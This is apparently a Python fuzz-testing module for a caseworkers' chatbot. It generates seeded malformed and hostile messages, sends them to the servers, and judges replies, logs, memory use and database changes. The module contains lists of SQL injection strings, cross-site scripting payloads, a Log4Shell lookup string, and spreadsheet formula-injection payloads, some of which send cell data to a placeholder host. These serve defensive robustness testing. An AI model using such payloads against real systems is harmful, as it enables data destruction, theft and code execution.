"""Hostile and messy messages for the served assistant, and the means to send them and judge the answers.

`cases(seed, count, signed, numbers)` is deterministic: the same seed gives the same messages, so a failure found by
`scripts/fuzz.py --seed S` is found again by the same seed. `tests/e2e/test_fuzz.py` runs a thousand of them
in `make test`; the script runs tens of thousands against servers of its own.

What a case expects:
- a message with a visible character gets a non-empty reply (never a 5xx, never an empty list);
- a blank message (nothing visible: empty, whitespace, zero-width, control characters) is never a 5xx and
  raises nothing in the servers' log;
- a request the REST channel cannot read (not JSON, not an object, a message or sender that is not a string)
  gets a 4xx with a JSON body;
- odd metadata and huge sender ids are read as unsigned (a reply) or refused (a 4xx with a JSON body).
"""

from __future__ import annotations

import datetime as dt
import enum
import hashlib
import itertools
import json
import random
import re
import threading
import time
import unicodedata
import uuid
from collections import Counter
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field, replace
from pathlib import Path

import httpx
from sqlalchemy import text

from throughcare.access import identity
from throughcare.cases import store
from throughcare.db.engine import Database
from throughcare.db.models import ReferralRoute
from throughcare.knowledge.loader import default_knowledge

# Characters that show nothing on their own: a message made only of these is blank.
INVISIBLE_CATEGORIES = {"Cc", "Cf", "Cs", "Co", "Cn", "Zs", "Zl", "Zp"}


class Expect(enum.Enum):
    REPLY = "a non-empty reply"
    BLANK = "no 5xx and nothing raised"
    REFUSAL = "a 4xx with a JSON body"
    REPLY_OR_REFUSAL = "a non-empty reply or a 4xx with a JSON body"


class Token(enum.Enum):
    """The staff token a case carries: the only one that signs is VALID; the others must read as unsigned."""

    NONE = "none"
    VALID = "valid"
    BORROWED = "borrowed"  # good, but signed for another conversation
    EXPIRED = "expired"


@dataclass(frozen=True)
class Case:
    kind: str
    message: object
    expect: Expect
    token: Token = Token.NONE
    metadata: object = field(default_factory=dict)
    # Replaces the conversation's own sender id (huge or not a string); None keeps it.
    sender: object = None
    # A body sent as it is, instead of the JSON object built from the fields above.
    raw: bytes | None = None

    def short(self, limit: int = 200) -> str:
        shown = self.raw if self.raw is not None else self.message
        return repr(shown)[:limit]


def visible(message: str) -> bool:
    return any(not ch.isspace() and unicodedata.category(ch) not in INVISIBLE_CATEGORIES for ch in message)


# ---- the messages -----------------------------------------------------------------------------------------

STAFF_QUESTIONS = (
    "whats next for {n}",
    "what's next for {n}?",
    "IA done for {n} yesterday",
    "triage done for {n} today",
    "release date for {n} is 14/01/2027",
    "{n} transferred to HMP Wymott on 3/2/2027",
    "new referral {n}, self referral",
    "start the transfer checklist for {n}",
    "resume the transfer checklist for {n}",
    "when is his review due",
    "when is the triage due for {n}",
    "done",
    "skip",
    "receiving prison has no email address",
    "why",
    "back",
    "stop",
    "1",
    "2",
    "my caseload",
    "whats overdue on my caseload",
    "what does TTG mean?",
    "what does ACCT stand for",
    "how often are high risk clients reviewed?",
    "how long have i got to do an initial assessment",
    "I have a safeguarding concern",
    "what do i do if someone discloses abuse",
    "is methadone ok with benzos",
    "I'm new, where do I start?",
    "quiz me",
    "how am I doing",
    "I completed my RCGP level 1 on 3/11/2026",
    "hiya",
    "thanks",
    "bye",
    "yes",
    "no",
)
INTENTS = (
    "greet",
    "goodbye",
    "help",
    "affirm",
    "deny",
    "out_of_scope",
    "ask_next_steps",
    "ask_caseload",
    "ask_due_date",
    "start_checklist",
    "step_done",
    "step_skip",
    "step_back",
    "step_why",
    "checklist_stop",
    "record_event",
    "record_referral",
    "ask_protocol",
    "define_term",
    "raise_safeguarding",
    "induction",
)
ENTITIES = (
    "prison_number",
    "event",
    "date",
    "checklist",
    "term",
    "knowledge_item",
    "induction",
    "induction_item",
    "choice",
    # Names that are not entities but mean something elsewhere: a slot, the token, an object's internals.
    "staff_token",
    "requested_slot",
    "checklist_step",
    "__proto__",
    "__class__",
)
EVENTS = ("initial_assessment", "triage", "review", "joint_review", "release", "release_date", "transfer", "closure")
IMPOSSIBLE_DATES = (
    "1900-01-01",
    "31/02/2027",
    "29/02/2027",
    "00/00/0000",
    "9999-12-31",
    "0001-01-01",
    "13/13/13",
    "32nd of Smarch",
    "1/1/99999999999999999999",
    "-1/-1/-1",
    "2027-02-30T25:61:61",
    "yesterday tomorrow",
    "next friday the 13th of never",
    "31.04.2027",
    "NaN",
)
SQL = (
    "'; DROP TABLE client; --",
    "' OR '1'='1",
    "A1234BC' UNION SELECT prison_number, initials FROM client --",
    "1; UPDATE episode SET stage='closed'",
    "\\'; DELETE FROM audit_event WHERE '1'='1",
    "$$; SELECT pg_sleep(10); $$",
    "' || (SELECT string_agg(prison_number, ',') FROM client) || '",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    '"><svg onload=alert(1)>',
    "{{7*7}} {% raw %}${7*7}",
    "${jndi:ldap://example.invalid/a}",
    "[click](javascript:alert(1))",
    "<b>bold</b> &amp; &lt;tags&gt; <a href='tg://user?id=1'>x</a>",
    "</html><!--",
)
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?d="&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=IMPORTXML(CONCAT("http://example.invalid/", A1), "//a")',
    '=WEBSERVICE("http://example.invalid")',
)
ZERO_WIDTH = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e")
BIDI = ("\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f", "\u200e")
WHITESPACE = (" ", "\t", "\n", "\r", "\u00a0", "\u2002", "\u2003", "\u2009", "\u3000", "\u2028", "\u2029", "\u0085")
EMOJI = ("😀", "👍🏽", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇬🇧", "❤️", "🧪", "💊", "🔥" * 3, "🫠", "1️⃣", "🏴󠁧󠁢󠁥󠁮󠁧󠁿")
RTL = ("مرحبا، ما التالي؟", "שלום מה הלאה", "ما هو موعد الإفراج", "تقييم أولي", "\u202eCB4321A rof txen stahw")
HOMOGLYPHS = {"A": "А", "B": "В", "C": "С", "E": "Е", "K": "К", "a": "а", "e": "е", "o": "о", "1": "١", "3": "３"}
# Unicode planes with assigned characters, and the two private-use planes.
PLANES = (0, 1, 2, 3, 14, 15, 16)


class Generator:
    """One seeded stream of cases; `numbers` are the well-formed prison numbers its messages may name."""

    def __init__(self, seed: int, numbers: Sequence[str]) -> None:
        self.rng = random.Random(seed)
        self.numbers = tuple(numbers)
        self.kinds: list[tuple[str, int, Callable[[], Case]]] = [
            ("staff question", 14, self.staff_question),
            ("question with noise", 14, self.noisy_question),
            ("random unicode", 8, self.random_unicode),
            ("combining marks", 3, self.combining),
            ("right to left", 3, self.right_to_left),
            ("emoji", 4, self.emoji),
            ("zero width", 4, self.zero_width),
            ("control characters", 5, self.control),
            ("blank", 5, self.blank),
            ("typed payload", 12, self.payload),
            ("SQL", 3, self.sql),
            ("HTML and JS", 3, self.markup),
            ("CSV formula", 3, self.formula),
            ("malformed prison number", 4, self.malformed_number),
            ("impossible date", 4, self.impossible_date),
            ("long text", 2, self.long_text),
            ("odd metadata", 4, self.odd_metadata),
            ("malformed request", 4, self.malformed_request),
        ]
        self.weights = [weight for _, weight, _ in self.kinds]

    def cases(self, count: int, signed: bool) -> list[Case]:
        made = [self.rng.choices(self.kinds, self.weights)[0][2]() for _ in range(count)]
        if not signed:
            return made
        # Signed as the staff member, except where the token itself is what the case is about.
        return [replace(c, token=Token.VALID) if c.token is Token.NONE and c.metadata == {} else c for c in made]

    # -- pieces

    def number(self) -> str:
        return self.rng.choice(self.numbers)

    def question(self) -> str:
        return self.rng.choice(STAFF_QUESTIONS).format(n=self.number())

    def codepoint(self) -> str:
        plane = self.rng.choice(PLANES)
        return chr(plane * 0x10000 + self.rng.randrange(0x10000))

    def message(self, kind: str, message: str) -> Case:
        return Case(kind, message, Expect.REPLY if visible(message) else Expect.BLANK)

    # -- kinds of case

    def staff_question(self) -> Case:
        return self.message("staff question", self.question())

    def noisy_question(self) -> Case:
        chars = list(self.question())
        for _ in range(self.rng.randint(1, 6)):
            where = self.rng.randrange(len(chars) + 1)
            noise = self.rng.choice(
                [
                    lambda: self.rng.choice(ZERO_WIDTH),
                    lambda: self.rng.choice(BIDI),
                    lambda: self.rng.choice(EMOJI),
                    lambda: self.rng.choice(WHITESPACE) * self.rng.randint(1, 40),
                    lambda: chr(self.rng.randrange(0x300, 0x370)),
                    lambda: chr(self.rng.randrange(0x20)),
                    self.codepoint,
                ]
            )()
            chars.insert(where, noise)
        noisy = "".join(HOMOGLYPHS.get(ch, ch) if self.rng.random() < 0.1 else ch for ch in chars)
        if self.rng.random() < 0.3:
            noisy = noisy.upper() if self.rng.random() < 0.5 else unicodedata.normalize("NFKD", noisy)
        return self.message("question with noise", noisy)

    def random_unicode(self) -> Case:
        # Lone surrogates included: JSON can carry them (\ud800), UTF-8 cannot store them.
        return self.message("random unicode", "".join(self.codepoint() for _ in range(self.rng.randint(1, 300))))

    def combining(self) -> Case:
        base = self.rng.choice([self.question(), "e", "", "A1234BC"])
        marks = "".join(chr(self.rng.randrange(0x300, 0x370)) for _ in range(self.rng.randint(1, 2000)))
        return self.message("combining marks", base + marks if self.rng.random() < 0.7 else marks)

    def right_to_left(self) -> Case:
        parts = [self.rng.choice(RTL), self.rng.choice(BIDI), self.question(), self.rng.choice(BIDI)]
        self.rng.shuffle(parts)
        return self.message("right to left", " ".join(parts))

    def emoji(self) -> Case:
        run = "".join(self.rng.choice(EMOJI) for _ in range(self.rng.randint(1, 60)))
        return self.message("emoji", run if self.rng.random() < 0.5 else f"{run} {self.question()} {run}")

    def zero_width(self) -> Case:
        question = self.question()
        joiner = self.rng.choice(ZERO_WIDTH)
        return self.message("zero width", joiner.join(question) if self.rng.random() < 0.5 else joiner + question)

    def control(self) -> Case:
        controls = [chr(c) for c in range(0x20)] + ["\x7f", "\x1b[31m", "\x1b]0;title\x07", "\x00" * 10]
        chosen = "".join(self.rng.choice(controls) for _ in range(self.rng.randint(1, 20)))
        question = self.question()
        cut = self.rng.randrange(len(question) + 1)
        return self.message("control characters", question[:cut] + chosen + question[cut:])

    def blank(self) -> Case:
        pool = WHITESPACE + ZERO_WIDTH + BIDI + ("\x00", "\x1b", "\x7f", "\ufffe", "\U000e0001")
        message = "".join(self.rng.choice(pool) for _ in range(self.rng.choice([0, 1, 2, 5, 50, 5000])))
        return Case("blank", message, Expect.BLANK)

    def payload(self) -> Case:
        intent = (
            self.rng.choice(INTENTS)
            if self.rng.random() < 0.85
            else self.rng.choice(["nope", "", "/", "äö", "x" * 300])
        )
        shape = self.rng.randrange(8)
        if shape == 0:
            body = json.dumps({"prison_number": self.number(), "event": "release", "date": "1900-01-01"})
        elif shape == 1:
            body = json.dumps({"checklist": "transfer", "step": "ndtms_form", "prison_number": self.number()})
        elif shape == 2:
            entities = self.rng.sample(ENTITIES, self.rng.randint(1, 6))
            body = json.dumps({e: self.entity_value() for e in entities})
        elif shape == 3:
            good = json.dumps({"prison_number": self.number(), "event": self.rng.choice(EVENTS)})
            body = good[: self.rng.randrange(1, len(good))] + self.rng.choice(["", "}}", "]", "'", '"', ",,"])
        elif shape == 4:
            depth = self.rng.choice([10, 100, 1000, 20000])
            body = '{"prison_number":' + "[" * depth + "1" + "]" * depth + "}"
        elif shape == 5:
            body = json.dumps({"prison_number": "A" * self.rng.choice([100, 10_000, 200_000]), "date": "9" * 5000})
        elif shape == 6:
            body = json.dumps([{"entity": "prison_number", "value": self.number()}] * 3)
        else:
            body = json.dumps({"event": self.rng.choice(EVENTS), "date": self.rng.choice(IMPOSSIBLE_DATES)})
        return self.message("typed payload", f"/{intent}{body}")

    def entity_value(self) -> object:
        return self.rng.choice(
            [
                self.number(),
                self.rng.choice(EVENTS),
                self.rng.choice(IMPOSSIBLE_DATES),
                None,
                12345678901234567890,
                -1.5e308,
                True,
                [],
                {"$ne": None},
                [self.number(), self.number()],
                {"nested": {"deeper": [1, {"x": "y"}]}},
                "",
                "\x00",
                self.rng.choice(FORMULAS),
            ]
        )

    def sql(self) -> Case:
        return self.message("SQL", self.rng.choice([f"whats next for {self.rng.choice(SQL)}", self.rng.choice(SQL)]))

    def markup(self) -> Case:
        markup = self.rng.choice(MARKUP)
        return self.message(
            "HTML and JS", self.rng.choice([markup, f"what does {markup} mean", f"{self.question()} {markup}"])
        )

    def formula(self) -> Case:
        # As a skip reason mid-walk, or a question, it lands in the query log and the audit trail, both exported.
        return self.message("CSV formula", self.rng.choice(FORMULAS))

    def malformed_number(self) -> Case:
        good = self.number()
        wrong = self.rng.choice(
            [
                good[:-1],
                good + good[-1],
                good[0] + good,
                good.lower(),
                "".join(HOMOGLYPHS.get(ch, ch) for ch in good),
                good.translate({ord(c): ord(c) + 0xFEE0 for c in good}),  # full-width forms
                " ".join(good),
                good * self.rng.randint(2, 100),
                "A0000AA",
                "Z9999ZZ9",
                "1234ABC",
                "%s",
                "A1234B\u200bC",
            ]
        )
        return self.message(
            "malformed prison number",
            self.rng.choice(["whats next for {}", "IA done for {} today", "{}"]).format(wrong),
        )

    def impossible_date(self) -> Case:
        date = self.rng.choice(IMPOSSIBLE_DATES)
        template = self.rng.choice(
            ["IA done for {n} on {d}", "release date for {n} is {d}", "{n} transferred on {d}", "review done {d}"]
        )
        return self.message("impossible date", template.format(n=self.number(), d=date))

    def long_text(self) -> Case:
        # Log-uniform from 10 kB to 1 MB: most long messages are tens of kB, a few reach the megabyte.
        size = int(10_000 * 100 ** self.rng.random())
        question = self.question()
        shape = self.rng.randrange(5)
        if shape == 0:
            message = question + " " * size + question
        elif shape == 1:
            message = "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(size))
        elif shape == 2:
            message = (question + " ") * (size // (len(question) + 1) + 1)
        elif shape == 3:
            message = ("IA dne for A1234B " * (size // 18 + 1))[:size]
        else:
            message = "".join(self.codepoint() for _ in range(size // 4))
        return Case("long text", message, Expect.REPLY if visible(message) else Expect.BLANK)

    def odd_metadata(self) -> Case:
        question = self.question()
        choice = self.rng.randrange(9)
        if choice < 4:
            metadata = self.rng.choice([[], "staff_token", 42, None, [{"staff_token": "1.1.aa"}], True])
            return Case("odd metadata", question, Expect.REPLY_OR_REFUSAL, metadata=metadata)
        if choice < 6:
            token = self.rng.choice(
                [
                    12345,
                    ["1.1.aa"],
                    {"id": 1},
                    "1.2.abc",
                    "١.٢." + "a" * 64,
                    "1." * 50_000,
                    "x" * 100_000,
                    "\x00",
                    f"{2**70}.1700000000.{'0' * 64}",
                ]
            )
            return Case("odd metadata", question, Expect.REPLY_OR_REFUSAL, metadata={identity.METADATA_KEY: token})
        if choice < 8:
            # Well-formed, but proves nothing here: read as unsigned.
            return Case("odd metadata", question, Expect.REPLY, token=Token.BORROWED if choice == 6 else Token.EXPIRED)
        sender = "s" * self.rng.choice([256, 10_000, 200_000])
        return Case("huge sender id", question, Expect.REPLY_OR_REFUSAL, sender=sender)

    def malformed_request(self) -> Case:
        choice = self.rng.randrange(4)
        if choice == 0:
            raw = self.rng.choice([b"", b"not json", b'{"sender": "x", "message": ', b"\xff\xfe\x00", b"{" * 50_000])
            return Case("malformed request", None, Expect.REFUSAL, raw=raw)
        if choice == 1:
            raw = self.rng.choice([b"[]", b'"hello"', b"42", b"null", b'[{"sender": "x", "message": "hi"}]'])
            return Case("malformed request", None, Expect.REFUSAL, raw=raw)
        if choice == 2:
            message = self.rng.choice([42, 3.5, True, None, ["hi"], {"text": "hi"}, 10**30])
            return Case("malformed request", message, Expect.REFUSAL)
        return Case(
            "malformed request", self.question(), Expect.REFUSAL, sender=self.rng.choice([42, ["x"], {"id": 1}, True])
        )


def cases(seed: int, count: int, signed: bool, numbers: Sequence[str]) -> list[Case]:
    return Generator(seed, numbers).cases(count, signed)


# ---- sending and judging ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Signing:
    staff_id: int
    secret: bytes

    def metadata(self, case: Case, sender: str) -> object:
        if case.token is Token.NONE:
            return case.metadata
        issued = time.time() - 3600 if case.token is Token.EXPIRED else None
        subject = f"{sender}-elsewhere" if case.token is Token.BORROWED else sender
        token = identity.sign(self.staff_id, self.secret, now=issued, subject=subject)
        return {**case.metadata, identity.METADATA_KEY: token}  # type: ignore[dict-item]


@dataclass
class Result:
    case: Case
    status: int | None  # None: no HTTP answer at all
    body: object  # the parsed JSON body, or None when it was not JSON
    seconds: float
    error: str | None = None

    def failure(self) -> str | None:
        """What went wrong, as a failure class, or None when the answer is what the case expects."""
        if self.status is None:
            return f"no answer ({self.error})"
        if self.status >= 500:
            return f"{self.status}"
        refused = 400 <= self.status < 500
        expect = self.case.expect
        if refused and self.body is None:
            return f"{self.status} without a JSON body"
        if expect is Expect.BLANK:
            return None
        if expect is Expect.REFUSAL:
            return None if refused else f"{self.status} instead of a 4xx"
        # A reply the user can read counts whatever the status (a message too long is answered 413, kindly).
        replies = self.body if isinstance(self.body, list) else []
        if any(r.get("text") or r.get("buttons") for r in replies if isinstance(r, dict)):
            return None
        if refused:
            return None if expect is Expect.REPLY_OR_REFUSAL else f"{self.status} without a reply"
        return "empty reply"


def send(client: httpx.Client, url: str, case: Case, sender: str, signing: Signing) -> Result:
    if case.raw is not None:
        content = case.raw
    else:
        body = {
            "sender": sender if case.sender is None else case.sender,
            "message": case.message,
            "metadata": signing.metadata(case, sender),
        }
        # ASCII escapes carry lone surrogates (\ud800) as JSON may, where UTF-8 could not.
        content = json.dumps(body).encode()
    began = time.perf_counter()
    try:
        reply = client.post(url, content=content, headers={"content-type": "application/json"})
    except httpx.HTTPError as err:
        return Result(case, None, None, time.perf_counter() - began, f"{type(err).__name__}: {err}"[:200])
    try:
        parsed = reply.json()
    except ValueError:
        parsed = None
    return Result(case, reply.status_code, parsed, time.perf_counter() - began)


CONVERSATION_LENGTH = 50


def send_all(url: str, batch: Sequence[Case], prefix: str, signing: Signing, workers: int) -> list[Result]:
    """Send `batch` from `workers` conversations at once, each sending in turn (as a person would), so a
    conversation's state (the client in context, the step on screen) builds up over its messages."""
    results: list[Result | None] = [None] * len(batch)
    position = iter(range(len(batch)))
    lock = threading.Lock()

    def worker(number: int) -> None:
        with httpx.Client(timeout=120) as client:
            for sent in itertools.count():
                with lock:
                    index = next(position, None)
                if index is None:
                    return
                # A new conversation every so often, as a working day has: Rasa reads a conversation's whole
                # history for each message, so one endless conversation would measure only its length.
                sender = f"{prefix}-{number}-{sent // CONVERSATION_LENGTH}"
                results[index] = send(client, url, batch[index], sender, signing)

    with ThreadPoolExecutor(workers) as pool:
        list(pool.map(worker, range(workers)))
    return [r for r in results if r is not None]


def failures(results: Sequence[Result]) -> dict[str, list[Result]]:
    """Results that went wrong, by failure class and kind of case."""
    found: dict[str, list[Result]] = {}
    for result in results:
        what = result.failure()
        if what:
            found.setdefault(f"{what}: {result.case.kind}", []).append(result)
    return found


def describe(found: dict[str, list[Result]], examples: int = 2) -> str:
    lines = []
    for what, results in sorted(found.items(), key=lambda item: -len(item[1])):
        lines.append(f"{len(results)} × {what}")
        lines.extend(f"    e.g. {r.case.short()}" for r in results[:examples])
    return "\n".join(lines)


# ---- what the servers say about it ------------------------------------------------------------------------

TRACEBACK = re.compile(r"Traceback \(most recent call last\):\n(?:[ \t].*\n|\n)*?(\S[^\n]*)")
ANSI = re.compile(r"\x1b\[[0-9;]*m")
# "2026-12-02 17:06:14 ERROR    rasa.core.channels.rest  - message": level, logger, message.
LOGGED = re.compile(r"^(?:\S+ \S+ )?(ERROR|CRITICAL)\s+(\S+)\s+-\s?(.*)$", re.MULTILINE)
# Parts of an error that differ between occurrences of the same fault.
VARYING = (
    (re.compile(r"'\\+u[0-9a-f]{4}'"), "'<surrogate>'"),
    (re.compile(r"\b(position|line|column|char) \d+"), r"\1 N"),
)


def _same_fault(what: str) -> str:
    for pattern, replacement in VARYING:
        what = pattern.sub(replacement, what)
    return what[:200]


def log_errors(log: str) -> Counter[str]:
    """Exceptions and error lines in the servers' shared log, by fault, each named by the server it came from."""
    log = ANSI.sub("", log)
    found: Counter[str] = Counter()
    for match in TRACEBACK.finditer(log):
        server = "Rasa" if ".venv-rasa/" in match.group(0) else "action server"
        found[f"{server}: {_same_fault(match.group(1))}"] += 1
    for _, logger, message in LOGGED.findall(log):
        server = "Rasa" if logger.startswith("rasa.") else "action server"
        found[f"{server} ({logger}): {_same_fault(_root_cause(message))}"] += 1
    return found


def _root_cause(message: str) -> str:
    """Rasa logs an exception as JSON, the outermost first and its cause last; any other line is its own cause."""
    try:
        chain = json.loads(message)["exception"]
        return f"{chain[-1]['exc_type']}: {chain[-1]['exc_value']}"
    except (ValueError, KeyError, IndexError, TypeError):
        return message


class LogReader:
    """What the servers wrote to their log since the last read."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.offset = path.stat().st_size

    def new(self) -> str:
        with self.path.open("rb") as log:
            log.seek(self.offset)
            data = log.read()
        self.offset += len(data)
        return data.decode("utf-8", errors="replace")


def rss_mb(pid: int) -> float:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"VmRSS:\s+(\d+)", status).group(1)) / 1024  # type: ignore[union-attr]


# ---- a whole run ------------------------------------------------------------------------------------------


@dataclass
class Run:
    blank: list[Result]
    blank_log: str  # what the servers logged while blank messages, and nothing else, were sent
    unsigned: list[Result]
    signed: list[Result]
    log: str  # what they logged over the rest of the run
    tables_before: dict[str, tuple[int, str]]
    tables_after: dict[str, tuple[int, str]]
    rss_before_mb: float
    rss_after_mb: float
    seconds: float

    @property
    def results(self) -> list[Result]:
        return self.blank + self.unsigned + self.signed

    @property
    def whole_log(self) -> str:
        return self.blank_log + self.log

    @property
    def unsigned_writes(self) -> dict[str, str]:
        return changed(self.tables_before, self.tables_after)


@dataclass(frozen=True)
class Served:
    url: str
    db: Database
    signing: Signing
    log: Path
    rasa_pid: int


def run(served: Served, seed: int, messages: int, workers: int) -> Run:
    """Half the messages unsigned (about the demo caseload, the case tables snapshotted either side), half signed
    (about clients of the fuzz's own); in each half the blank messages go first, one at a time, so whatever the
    servers log meanwhile is theirs. Seeds `seed` and `seed + 1` make the halves."""
    unsigned = cases(seed, messages // 2, signed=False, numbers=demo_numbers(served.db))
    own = open_fuzz_clients(served.db, served.signing.staff_id)
    signed = cases(seed + 1, messages - messages // 2, signed=True, numbers=own)
    prefix = f"fuzz-{uuid.uuid4().hex[:8]}"
    # Rasa's memory is measured once it has answered everyday messages, so growth is the fuzz's own.
    everyday = [Case("warm-up", q.format(n=own[0]), Expect.REPLY, Token.VALID) for q in STAFF_QUESTIONS]
    send_all(served.url, everyday, f"{prefix}-warm-up", served.signing, workers)
    rss_before = rss_mb(served.rasa_pid)
    log = LogReader(served.log)
    began = time.perf_counter()

    def blank_first(batch: list[Case], sender: str) -> tuple[list[Result], str, list[Result]]:
        blank = send_all(served.url, [c for c in batch if c.expect is Expect.BLANK], sender, served.signing, 1)
        logged = log.new()
        rest = [c for c in batch if c.expect is not Expect.BLANK]
        return blank, logged, send_all(served.url, rest, sender, served.signing, workers)

    tables_before = case_tables(served.db)
    unsigned_blank, unsigned_blank_log, unsigned_results = blank_first(unsigned, f"{prefix}-unsigned")
    tables_after = case_tables(served.db)
    signed_blank, signed_blank_log, signed_results = blank_first(signed, f"{prefix}-signed")
    seconds = time.perf_counter() - began
    return Run(
        unsigned_blank + signed_blank,
        unsigned_blank_log + signed_blank_log,
        unsigned_results,
        signed_results,
        log.new(),
        tables_before,
        tables_after,
        rss_before,
        rss_mb(served.rasa_pid),
        seconds,
    )


# ---- the clients named --------------------------------------------------------------------------------------

# Signed fuzz writes real changes; they go to clients of their own so the demo caseload other tests read stays as
# it was. No key worker: they are in nobody's caseload.
FUZZ_NUMBERS = ("Z9001FZ", "Z9002FZ", "Z9003FZ")


def open_fuzz_clients(db: Database, staff_id: int) -> tuple[str, ...]:
    with db.engine.connect() as conn:
        known = set(conn.scalars(text("SELECT prison_number FROM client")))
    for number in FUZZ_NUMBERS:
        if number not in known:
            store.record_referral(
                db, default_knowledge(), number, ReferralRoute.self_referral, dt.date.today(), staff_id
            )
    return FUZZ_NUMBERS


def demo_numbers(db: Database, count: int = 5) -> tuple[str, ...]:
    """Clients of the demo caseload: unsigned senders may name them freely, since nothing unsigned may change them."""
    with db.engine.connect() as conn:
        query = text("SELECT prison_number FROM client WHERE prison_number NOT LIKE 'Z9%' ORDER BY id LIMIT :n")
        return tuple(conn.scalars(query, {"n": count}))


# ---- the case tables --------------------------------------------------------------------------------------

CASE_TABLES = {
    "client": "SELECT * FROM client ORDER BY id",
    "episode": "SELECT * FROM episode ORDER BY id",
    "checklist_progress": "SELECT * FROM checklist_progress ORDER BY id",
    # Reading a case may be audited; only audit rows of changes count.
    "audit_event": "SELECT * FROM audit_event WHERE action NOT LIKE 'read%' ORDER BY id",
    "open_step": "SELECT * FROM open_step ORDER BY id",
}


def case_tables(db: Database) -> dict[str, tuple[int, str]]:
    """Each case table's row count and a hash of its rows, to tell whether anything in it changed."""
    snapshot = {}
    with db.engine.connect() as conn:
        for table, query in CASE_TABLES.items():
            rows = conn.execute(text(query)).all()
            snapshot[table] = (len(rows), hashlib.sha256(repr(rows).encode()).hexdigest()[:16])
    return snapshot


def changed(before: dict[str, tuple[int, str]], after: dict[str, tuple[int, str]]) -> dict[str, str]:
    return {t: f"{before[t][0]} rows → {after[t][0]} rows" for t in before if before[t] != after[t]}
